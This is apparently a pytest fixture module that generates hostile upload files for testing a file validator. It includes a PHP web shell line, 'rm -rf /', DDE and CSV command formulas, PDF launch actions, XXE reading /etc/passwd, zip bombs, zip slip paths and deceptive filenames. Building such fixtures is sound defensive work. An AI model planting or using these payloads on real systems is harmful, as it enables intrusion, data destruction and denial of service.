"""Files that attack: bombs, scripts, links, archives in archives; made here, so that none lies about."""

from __future__ import annotations

import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

import pytest
from docx import Document
from PIL import Image, PngImagePlugin

from tests.kernel import recordings
from tests.kernel.test_evidence import PDF, image

WORD_TYPES = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET_TYPES = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
SCRIPT = b"<script>alert(1)</script>"
PHP = b"<?php system($_GET['c']); ?>"


def archive(parts: dict[str, bytes | str], *, types: str = WORD_TYPES, level: int = 9) -> bytes:
    """An Office file as small as one can be, with what an attacker adds."""
    declared = f'<Types><Override PartName="/x.xml" ContentType="{types}"/></Types>'
    main = "word/document.xml" if types == WORD_TYPES else "xl/workbook.xml"
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as file:
        for name, part in {"[Content_Types].xml": declared, main: "<d>text</d>", **parts}.items():
            file.writestr(name, part)
    return buffer.getvalue()


def relation(kind: str, target: str) -> str:
    return RELATIONS.format(f'<Relationship Id="a" Type="x/{kind}" Target="{target}" TargetMode="External"/>')


def with_member(
    change: Callable[[zipfile.ZipInfo], None], name: str = "word/media/a.txt", body: bytes = b"x"
) -> bytes:
    member = zipfile.ZipInfo(name)
    change(member)
    buffer = BytesIO(archive({}))
    with zipfile.ZipFile(buffer, "a") as file:
        file.writestr(member, body)
    return buffer.getvalue()


def as_link(member: zipfile.ZipInfo) -> None:
    member.external_attr = (stat.S_IFLNK | 0o777) << 16


def nul_name() -> bytes:
    return with_member(lambda member: None, "word/media/aXb.txt").replace(b"aXb.txt", b"a\0b.txt")


def locked(content: bytes) -> bytes:
    """Set the flag of a password on every member."""
    changed = bytearray(content)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(signature)
        while at >= 0:
            changed[at + offset] |= 1
            at = changed.find(signature, at + 4)
    return bytes(changed)


def lying_size() -> bytes:
    """A member of 60 MB whose directory says 10 bytes."""
    content = bytearray(archive({"word/media/a.txt": bytes(60_000_000)}))
    at = content.rfind(b"PK\x01\x02")
    struct.pack_into("<I", content, at + 24, 10)
    return bytes(content)


def overlapping() -> bytes:
    """Two names for the same bytes, the flat bomb's trick."""
    content = archive({"word/media/a.txt": bytes(1_000_000), "word/media/b.txt": b"x"})
    changed = bytearray(content)
    last = changed.rfind(b"PK\x01\x02")
    before = changed.rfind(b"PK\x01\x02", 0, last)
    changed[last + 42 : last + 46] = changed[before + 42 : before + 46]
    return bytes(changed)


def twice() -> bytes:
    buffer = BytesIO(archive({}))
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(buffer, "a") as file:
        file.writestr("word/document.xml", "<other/>")
    return buffer.getvalue()


def png_header(width: int, height: int) -> bytes:
    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(10_000))) + chunk(b"IEND", b"")


def png_text_bomb() -> bytes:
    text = PngImagePlugin.PngInfo()
    text.add_text("a", "a" * 80_000_000, zip=True)
    buffer = BytesIO()
    Image.new("RGB", (8, 8)).save(buffer, "PNG", pnginfo=text)
    return buffer.getvalue()


def progressive(size: tuple[int, int]) -> bytes:
    buffer = BytesIO()
    Image.new("RGB", size).save(buffer, "JPEG", progressive=True, subsampling=0)
    return buffer.getvalue()


def commented() -> bytes:
    buffer = BytesIO()
    Image.new("RGB", (40, 30)).save(buffer, "JPEG", comment=SCRIPT)
    return buffer.getvalue()


def pdf(body: bytes) -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<< " + body + b" >>\nendobj\ntrailer\n<<>>\n%%EOF\n"


def hidden_in_a_stream(body: bytes, dictionary: bytes = b"/Type /ObjStm /Filter /FlateDecode") -> bytes:
    return (
        pdf(b"")
        + b"2 0 obj\n<< "
        + dictionary
        + b" >>\nstream\n"
        + zlib.compress(body)
        + b"\nendstream\n%%EOF\n"
    )


def real_document() -> bytes:
    buffer = BytesIO()
    document = Document()
    document.add_paragraph("整改报告")
    document.save(buffer)
    return buffer.getvalue()


JPEG, PNG, WEBP = (image(kind, (400, 300)) for kind in ("JPEG", "PNG", "WEBP"))
LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
EXTERNAL = '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'
FIELD = '<w:p xmlns:w="w"><w:r><w:instrText>{}</w:instrText></w:r></w:p>'
M4A = recordings.m4a()

ATTACKS: dict[str, Callable[[], bytes]] = {
    # what it calls itself is not what it is
    "html as jpg": lambda: b"<html>" + SCRIPT,
    "svg with script": lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>",
    "svg with a comment first": lambda: b"<!-- GIF89a --><svg onload='alert(1)'/>",
    "xml": lambda: b"<?xml version='1.0'?><a/>",
    "xhtml with a BOM": lambda: b"\xef\xbb\xbf<html xmlns='http://www.w3.org/1999/xhtml'/>",
    "php": lambda: PHP,
    "shell script": lambda: b"#!/bin/sh\nrm -rf /\n",
    "javascript": lambda: b"alert(1)//",
    "csv with a formula": lambda: b"=cmd|'/c calc'!A1,1\n",
    "windows program": lambda: b"MZ" + bytes(200),
    "linux program": lambda: b"\x7fELF" + bytes(200),
    "old Word file": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "rtf with an object": lambda: b"{\\rtf1{\\object\\objemb}}",
    "gif": lambda: image("GIF"),
    "gif and javascript": lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//",
    "tiff": lambda: image("TIFF"),
    "bmp and javascript": lambda: b"BM/*" + image("BMP") + b"*/=1;alert(1)",
    "eps through ghostscript": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file\n",
    # images
    "png 60k x 60k": lambda: png_header(60_000, 60_000),
    "png of 2^31 pixels a side": lambda: png_header(2**31 - 1, 2**31 - 1),
    "png over 50 million pixels": lambda: image("PNG", (8000, 7000), "1"),
    "png that takes 196 MB": lambda: image("PNG", (7000, 7000)),
    "webp that takes too much": lambda: image("WEBP", (6000, 6000)),
    "progressive jpeg that takes 240 MB": lambda: progressive((8000, 5000)),
    "png with a bomb of text": png_text_bomb,
    "truncated jpeg": lambda: JPEG[: len(JPEG) * 2 // 3],
    "truncated png": lambda: PNG[:-40],
    "truncated webp": lambda: WEBP[:-200],
    "png with a wrong checksum": lambda: PNG[:60] + bytes([PNG[60] ^ 1]) + PNG[61:],
    "jpeg of one marker": lambda: b"\xff\xd8\xff\xe0",
    "png and php": lambda: PNG + PHP,
    "png and a page": lambda: PNG + b"<HTML >" + SCRIPT,
    "png and anything": lambda: PNG + b"tail",
    "jpeg and php": lambda: JPEG + PHP,
    "jpeg and a zip": lambda: JPEG + archive({}),
    "jpeg and a java archive": lambda: JPEG + archive({"META-INF/MANIFEST.MF": b"Main-Class: X"}),
    "jpeg with a script in its comment": commented,
    "webp and a script": lambda: WEBP + SCRIPT,
    # PDF
    "pdf with javascript": lambda: pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "pdf with a name in disguise": lambda: pdf(b"/OpenAction << /S /J#61vaScript >>"),
    "pdf that launches": lambda: pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "pdf with a file in it": lambda: pdf(b"/Names << /EmbeddedFiles 3 0 R >>"),
    "pdf with an XFA form": lambda: pdf(b"/AcroForm << /XFA [1 0 R] >>"),
    "pdf that sends a form": lambda: pdf(b"/A << /S /SubmitForm /F (http://x) >>"),
    "pdf with javascript in a stream": lambda: hidden_in_a_stream(b"<< /S /JavaScript >>"),
    "pdf with a bomb in a stream": lambda: hidden_in_a_stream(bytes(80_000_000)),
    "pdf with a stream of another kind": lambda: hidden_in_a_stream(b"x", b"/Type /ObjStm /Filter /LZWDecode"),
    "pdf with a password": lambda: pdf(b"/Encrypt 5 0 R"),
    "pdf and zip": lambda: PDF + archive({}) + b"",
    "pdf behind a page": lambda: b"<html>" + PDF,
    "pdf without an end": lambda: b"%PDF-1.7\n" + b"x" * 2000,
    # Office files
    "zip bomb, flat": lambda: archive({"word/media/a.txt": bytes(200_000_000)}),
    "zip bomb, many files": lambda: archive({f"word/media/{n}.txt": bytes(3_000_000) for n in range(30)}),
    "zip bomb, nested": lambda: archive({"word/a.zip": archive({"b": bytes(9_000_000)})}),
    "zip bomb, overlapping": overlapping,
    "zip with a lying size": lying_size,
    "zip with 3,000 members": lambda: archive({f"word/{n}.txt": b"" for n in range(3000)}),
    "xlsx bomb": lambda: archive({"xl/worksheets/sheet1.xml": b"<a>" + b" " * 90_000_000 + b"</a>"}, types=SHEET_TYPES),
    "billion laughs": lambda: archive({"word/styles.xml": LAUGHS}),
    "billion laughs in UTF-16": lambda: archive({"word/styles.xml": LAUGHS.encode("utf-16")}),
    "external entity": lambda: archive({"xl/styles.xml": EXTERNAL}, types=SHEET_TYPES),
    "external entity in a relation": lambda: archive({"_rels/.rels": EXTERNAL}),
    "xml in an unknown encoding": lambda: archive({"word/a.xml": b'<?xml version="1.0" encoding="utf-7"?><a/>'}),
    "xml cut off": lambda: archive({"word/a.xml": b"<a><b>"}),
    "zip slip": lambda: archive({"../../etc/cron.d/x": b"x"}),
    "zip slip with backslashes": lambda: archive({"..\\..\\x.txt": b"x"}),
    "absolute name": lambda: archive({"/etc/passwd": b"x"}),
    "drive name": lambda: archive({"C:/x.txt": b"x"}),
    "name with NUL": nul_name,
    "symbolic link": lambda: with_member(as_link, "word/media/link", b"/etc/passwd"),
    "password": lambda: locked(archive({})),
    "one name twice": twice,
    "macro docm": lambda: archive({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "macro type declared": lambda: archive({"a.xml": '<Types><D ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'}),
    "excel 4 macro sheet": lambda: archive({"xl/macrosheets/sheet1.xml": "<a/>"}, types=SHEET_TYPES),
    "activex": lambda: archive({"word/activeX/activeX1.xml": "<a/>"}),
    "embedded program": lambda: archive({"word/embeddings/a.exe": b"MZ"}),
    "embedded object": lambda: archive({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "program under another name": lambda: archive({"word/media/a.png": b"MZ" + bytes(9)}),
    "remote template": lambda: archive({"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://x/t.dotm")}),
    "remote picture": lambda: archive({"word/_rels/document.xml.rels": relation("image", "\\\\x\\share\\a.png")}),
    "dde field": lambda: archive({"word/header1.xml": FIELD.format('DDEAUTO c:\\\\cmd.exe "/k calc"')}),
    "dde field in pieces": lambda: archive({"word/header1.xml": '<p><instrText>DDE</instrText><instrText>AUTO x</instrText></p>'}),
    "dde formula": lambda: archive({"xl/externalLinks/e.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'}, types=SHEET_TYPES),
    "page before a zip": lambda: SCRIPT + archive({}),
    "bytes after a zip": lambda: archive({}) + PHP,
    "zip that is no Office file": lambda: archive({}, types="text/plain"),
    "two kinds in one": lambda: archive({"a.xml": f'<T><O ContentType="{SHEET_TYPES}"/></T>'}),
    # recordings
    "m4a with a page in it": lambda: M4A + struct.pack(">I4s", 8 + len(SCRIPT), b"free") + SCRIPT,
    "m4a and php": lambda: M4A + PHP,
    "m4a cut off": lambda: M4A[:-3],
    "mp4 with a film": lambda: recordings.m4a(b"vide"),
    "m4a of endless boxes": lambda: struct.pack(">I4s4sI", 16, b"ftyp", b"M4A ", 0) + struct.pack(">I4s", 0, b"moov") * 5000,
    "wav with a lying size": lambda: recordings.wav()[:4] + b"\xff\xff\xff\x7f" + recordings.wav()[8:],
    "wav and php": lambda: recordings.wav() + PHP,
    "ogg cut off": lambda: recordings.ogg()[:-1],
    "mp3 and javascript": lambda: b"ID3\x03\0\0\0\0\0\x0a" + b"alert(1)//" + bytes(40),
    "amr and a page": lambda: recordings.amr() + b"<html >",
    "webm with a film": lambda: recordings.webm(b"V_VP9"),
}  # fmt: skip

NAMES = {
    "path upwards": "../../../etc/passwd.jpg",
    "windows path": "..\\..\\boot.jpg",
    "NUL": "a.jpg\0.exe",
    "right-to-left": "photo\u202egpj.exe",
    "line breaks into a header": "a\r\nSet-Cookie: x=1.jpg",
    "4,000 characters": "长" * 4000 + ".jpg",
    "zero width": "a\u200b\u2066.jpg",
}
